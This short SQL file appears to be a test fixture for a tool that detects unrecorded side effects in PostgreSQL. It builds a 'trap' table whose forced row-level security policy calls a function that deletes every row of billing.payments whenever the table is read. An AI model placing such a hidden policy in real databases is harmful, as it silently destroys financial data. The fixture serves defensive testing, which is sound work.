-- A row's policy holds for its owner too, and its function writes when the gate reads the new table, after all was measured.
-- code: EFFECT_UNRECORDED
-- guard: quorate_targets.billing_hash(text) | if row_security_active(p_table) then | if false then
create table reporting.trap (id integer primary key);
insert into reporting.trap values (1);
create function reporting.springs() returns boolean language plpgsql as $$ begin delete from billing.payments; return true; end $$;
create policy springs on reporting.trap using (reporting.springs());
alter table reporting.trap enable row level security;
alter table reporting.trap force row level security;
